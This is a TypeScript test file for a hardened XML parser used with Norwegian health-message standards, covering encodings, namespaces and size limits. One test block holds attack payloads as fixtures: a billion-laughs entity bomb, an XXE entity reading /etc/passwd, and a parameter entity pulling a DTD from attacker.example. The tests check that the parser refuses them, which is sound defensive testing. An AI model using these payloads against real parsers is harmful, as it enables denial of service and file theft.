import { describe, expect, it } from 'vitest'
import { listConformanceSamples, readConformanceSample } from './conformance-files.ts'
import { childElement, namespaceOf, parseXmlSafely, type SafeXmlResult, type XmlDocument, type XmlElement } from './safe-xml.ts'

const MAX = 1024 * 1024

function parsed(result: SafeXmlResult): XmlDocument {
  if (!result.ok) throw new Error(`expected a document, got ${result.error.code}: ${result.error.message}`)
  return result.document
}

function errorOf(result: SafeXmlResult) {
  if (result.ok) throw new Error('expected an error, got a document')
  return result.error
}

function walk(element: XmlElement, visit: (e: XmlElement) => void): void {
  visit(element)
  for (const child of element.children) walk(child, visit)
}

describe('parseXmlSafely on the public NHN samples', () => {
  const samples = listConformanceSamples()

  it('finds the samples folder', () => {
    expect(samples.length).toBeGreaterThan(50)
  })

  it.each(samples)('parses %s', (sample) => {
    const document = parsed(parseXmlSafely(readConformanceSample(sample), { maxBytes: MAX }))
    // Every element in the national standards is namespace-qualified except in the NHN register DTOs / SOAP bodies,
    // so a resolved namespace on the root is a cheap sign that scoping worked.
    expect(document.root.namespace).toMatch(/^https?:\/\//)
  })

  it('reads the ISO-8859-1 NAV sample with æøå intact', () => {
    const document = parsed(parseXmlSafely(readConformanceSample('dialogmelding/nav-fellesformat/padm2_dialog_notat.xml'), { maxBytes: MAX }))
    expect(document.encoding).toBe('iso-8859-1')
    const names: string[] = []
    walk(document.root, (e) => {
      if (e.attributes.DN !== undefined) names.push(e.attributes.DN)
    })
    expect(names).toContain('Organisasjonsnummeret i Enhetsregister (Brønnøysund)')
    expect(names).toContain('Fødselsnummer')
  })

  it('resolves the namespaces of a MsgHead with a Dialogmelding payload', () => {
    const document = parsed(parseXmlSafely(readConformanceSample('dialogmelding/v1.0/sarepta_Dialogmelding_avvik_v1-0.xml'), { maxBytes: MAX }))
    expect(document.root.localName).toBe('MsgHead')
    expect(document.root.namespace).toBe('http://www.kith.no/xmlstds/msghead/2006-05-24')
    const msgHead = 'http://www.kith.no/xmlstds/msghead/2006-05-24'
    const content = childElement(childElement(childElement(document.root, msgHead, 'Document')!, msgHead, 'RefDoc')!, msgHead, 'Content')!
    expect(content.children[0]?.namespace).toBe('http://www.kith.no/xmlstds/dialog/2006-10-11')
  })
})

describe('parseXmlSafely refuses DTDs before parsing', () => {
  const billionLaughs = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<lolz>&lol9;</lolz>`
  const xxe = `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE foo [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<MsgHead xmlns="http://www.kith.no/xmlstds/msghead/2006-05-24"><x>&xxe;</x></MsgHead>`
  const parameterEntities = `<?xml version="1.0"?>
<!DOCTYPE data [
  <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">
  %remote;
]>
<data>&send;</data>`
  const cases: Array<[string, string | Buffer]> = [
    ['billion laughs', billionLaughs],
    ['external entity (XXE)', xxe],
    ['parameter entities', parameterEntities],
    ['lower-case doctype', '<!doctype a><a/>'],
    ['mixed-case doctype', '<!DocType a SYSTEM "x.dtd"><a/>'],
    ['doctype after a comment', '<?xml version="1.0"?><!-- hi --><!DOCTYPE a><a/>'],
    ['doctype after a UTF-8 BOM', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('<!DOCTYPE a><a/>')])],
    ['doctype after a BOM in a string', '\uFEFF<?xml version="1.0"?>\n<!DOCTYPE a []><a/>'],
    ['doctype with whitespace after <!', '<!  DOCTYPE a><a/>'],
    ['doctype after the root (not well-formed anyway)', '<a/><!DOCTYPE a>'],
    ['bare ENTITY declaration without a DOCTYPE', '<a><!ENTITY x "y"></a>'],
    ['doctype in an ISO-8859-1 document', Buffer.from('<?xml version="1.0" encoding="ISO-8859-1"?><!DOCTYPE a><a>\u00e6</a>', 'latin1')],
    ['doctype in a document with an unsupported encoding', Buffer.from('<?xml version="1.0" encoding="EBCDIC"?><!DOCTYPE a><a/>')],
  ]
  it.each(cases)('%s', (_label, input) => {
    expect(errorOf(parseXmlSafely(input, { maxBytes: MAX })).code).toBe('doctype-refused')
  })
})

describe('parseXmlSafely limits and errors', () => {
  it('checks the size first, before looking for a DOCTYPE', () => {
    const big = `<!DOCTYPE a><a>${'x'.repeat(2000)}</a>`
    expect(errorOf(parseXmlSafely(big, { maxBytes: 1000 })).code).toBe('too-large')
    expect(errorOf(parseXmlSafely(Buffer.from(big), { maxBytes: 1000 })).code).toBe('too-large')
  })

  it('refuses deep nesting (200) as too large, which bounds recursion; accepts 100', () => {
    const nested = (depth: number) => '<a>'.repeat(depth) + '</a>'.repeat(depth)
    expect(parseXmlSafely(nested(100), { maxBytes: MAX }).ok).toBe(true)
    expect(errorOf(parseXmlSafely(nested(200), { maxBytes: MAX })).code).toBe('too-large')
    expect(errorOf(parseXmlSafely(nested(100_000), { maxBytes: MAX })).code).toBe('too-large')
  })

  it('counts bytes, not characters, for strings', () => {
    const doc = `<a>${'æ'.repeat(600)}</a>` // 1207 bytes in UTF-8, 607 characters
    expect(errorOf(parseXmlSafely(doc, { maxBytes: 1000 })).code).toBe('too-large')
    expect(parseXmlSafely(doc, { maxBytes: 2000 }).ok).toBe(true)
  })

  it('reports a mismatched closing tag with its line and column', () => {
    const error = errorOf(parseXmlSafely('<a>\n  <b>\n  </c>\n</a>', { maxBytes: MAX }))
    expect(error.code).toBe('not-well-formed')
    expect(error.message).toMatch(/line 3, column \d+/)
  })

  it.each([
    ['unclosed root', '<a><b/>'],
    ['two roots', '<a/><b/>'],
    ['text outside the root', '<a/>junk'],
    ['text and a > after a self-closing root', '<a x="1"/>junk>'],
    ['duplicate attribute', '<a x="1" x="2"/>'],
    ['bare ampersand', '<a>fish & chips</a>'],
    ['undefined entity', '<a>&nbsp;</a>'],
    ['undeclared element prefix', '<x:a/>'],
    ['undeclared attribute prefix', '<a y:b="1"/>'],
    ['empty', ''],
    ['character reference to NUL', '<a>&#0;</a>'],
  ])('%s is not well-formed', (_label, input) => {
    const error = errorOf(parseXmlSafely(input, { maxBytes: MAX }))
    expect(error.code).toBe('not-well-formed')
    expect(error.message.length).toBeGreaterThan(0)
  })

  it('gives a position for an undefined entity reference', () => {
    expect(errorOf(parseXmlSafely('<a>\n<b>&foo;</b></a>', { maxBytes: MAX })).message).toMatch(/line 2, column 4.*&foo;/)
  })

  it('allows & inside comments and CDATA', () => {
    const document = parsed(parseXmlSafely('<a><!-- fish & chips --><![CDATA[x & y &amp;]]></a>', { maxBytes: MAX }))
    expect(document.root.text).toBe('x & y &amp;')
  })
})

describe('parseXmlSafely encodings', () => {
  it('decodes ISO-8859-1 bytes when declared', () => {
    const bytes = Buffer.from('<?xml version="1.0" encoding="ISO-8859-1"?><navn>Bjørn Ærlig Ås</navn>', 'latin1')
    expect(bytes.includes(0xf8)).toBe(true) // ø is one byte: these really are latin1 bytes
    const document = parsed(parseXmlSafely(bytes, { maxBytes: MAX }))
    expect(document.root.text).toBe('Bjørn Ærlig Ås')
    expect(document.encoding).toBe('iso-8859-1')
  })

  it('accepts the declaration in single quotes and lower case', () => {
    const bytes = Buffer.from("<?xml version='1.0' encoding='iso-8859-1'?><a>\u00e6\u00f8\u00e5</a>", 'latin1')
    expect(parsed(parseXmlSafely(bytes, { maxBytes: MAX })).root.text).toBe('æøå')
  })

  it('decodes UTF-8 by default, with or without a BOM', () => {
    expect(parsed(parseXmlSafely(Buffer.from('<a>æøå</a>'), { maxBytes: MAX })).root.text).toBe('æøå')
    const withBom = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('<?xml version="1.0" encoding="utf-8"?><a>æøå</a>')])
    expect(parsed(parseXmlSafely(withBom, { maxBytes: MAX })).root.text).toBe('æøå')
  })

  it('refuses latin1 bytes that claim (or default) to be UTF-8', () => {
    const bytes = Buffer.from('<a>Bjørn</a>', 'latin1')
    expect(errorOf(parseXmlSafely(bytes, { maxBytes: MAX })).code).toBe('encoding')
  })

  it.each([
    ['UTF-16 declaration', Buffer.from('<?xml version="1.0" encoding="UTF-16"?><a/>')],
    ['windows-1252', Buffer.from('<?xml version="1.0" encoding="windows-1252"?><a/>')],
    ['UTF-16LE bytes with a BOM', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('<a/>', 'utf16le')])],
    ['UTF-16LE bytes without a BOM', Buffer.from('<!DOCTYPE a><a/>', 'utf16le')],
  ])('refuses %s', (_label, bytes) => {
    expect(errorOf(parseXmlSafely(bytes, { maxBytes: MAX })).code).toBe('encoding')
  })

  it('decodes character references and predefined entities once', () => {
    const document = parsed(parseXmlSafely('<a t="1&amp;2 &#xE6;">&#230;&#xF8;&#229; &lt;b&gt; &amp;#230;</a>', { maxBytes: MAX }))
    expect(document.root.text).toBe('æøå <b> &#230;')
    expect(document.root.attributes.t).toBe('1&2 æ')
  })

  it('keeps values as strings (leading zeros in ids survive)', () => {
    const document = parsed(parseXmlSafely('<Id V="0101" n="1e3">00123</Id>', { maxBytes: MAX }))
    expect(document.root.text).toBe('00123')
    expect(document.root.attributes).toEqual({ V: '0101', n: '1e3' })
  })
})

describe('parseXmlSafely namespaces', () => {
  const xml = `<?xml version="1.0"?>
<MsgHead xmlns="urn:msghead" xmlns:dia="urn:dialog" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
  <MsgInfo><Type V="DIALOG_NOTAT"/></MsgInfo>
  <dia:Dialogmelding xsi:type="dia:X">
    <dia:Notat><TemaKodet/></dia:Notat>
  </dia:Dialogmelding>
  <Content xmlns="urn:other">
    <Inner><dia:Deep xmlns:dia="urn:dialog-v2"/></Inner>
    <Reset xmlns=""><Plain/></Reset>
  </Content>
  <After/>
</MsgHead>`

  const document = parsed(parseXmlSafely(xml, { maxBytes: MAX }))
  const [msgInfo, dialog, content, after] = document.root.children

  it('resolves the default namespace, inherited by unprefixed children', () => {
    expect(document.root.namespace).toBe('urn:msghead')
    expect(msgInfo?.namespace).toBe('urn:msghead')
    expect(msgInfo?.children[0]?.namespace).toBe('urn:msghead')
    expect(msgInfo?.children[0]?.attributes.V).toBe('DIALOG_NOTAT')
  })

  it('resolves prefixed names, and unprefixed names inside them use the default namespace', () => {
    expect(dialog).toMatchObject({ name: 'dia:Dialogmelding', prefix: 'dia', localName: 'Dialogmelding', namespace: 'urn:dialog' })
    expect(dialog?.children[0]?.namespace).toBe('urn:dialog')
    expect(dialog?.children[0]?.children[0]?.namespace).toBe('urn:msghead')
    expect(dialog?.attributes['xsi:type']).toBe('dia:X')
    expect(dialog?.namespacesInScope.xsi).toBe('http://www.w3.org/2001/XMLSchema-instance')
  })

  it('honours redeclarations in a child, and only below it', () => {
    expect(content?.namespace).toBe('urn:other')
    expect(content?.children[0]?.namespace).toBe('urn:other')
    expect(content?.children[0]?.children[0]).toMatchObject({ localName: 'Deep', namespace: 'urn:dialog-v2' })
    expect(content?.children[1]?.namespace).toBeUndefined()
    expect(content?.children[1]?.children[0]?.namespace).toBeUndefined()
    expect(after?.namespace).toBe('urn:msghead')
  })

  it('namespaceOf follows a path of qualified names', () => {
    expect(namespaceOf(document, ['MsgHead', 'dia:Dialogmelding', 'dia:Notat'])).toBe('urn:dialog')
    expect(namespaceOf(document, ['MsgHead', 'Content', 'Inner', 'dia:Deep'])).toBe('urn:dialog-v2')
    expect(namespaceOf(document, ['MsgHead', 'Nope'])).toBeUndefined()
  })

  it('binds the xml prefix without a declaration', () => {
    expect(parseXmlSafely('<a xml:lang="nb"><xml:b/></a>', { maxBytes: MAX }).ok).toBe(true)
  })
})

describe('parseXmlSafely trailing content', () => {
  it.each(['<a x=">"/>', "<a x='>'/>  \n", '<a>x</a><!-- after -->\n<?pi x?>\n', '<a\n  b="1"\n/>'])('accepts %j', (input) => {
    expect(parseXmlSafely(input, { maxBytes: MAX }).ok).toBe(true)
  })
})
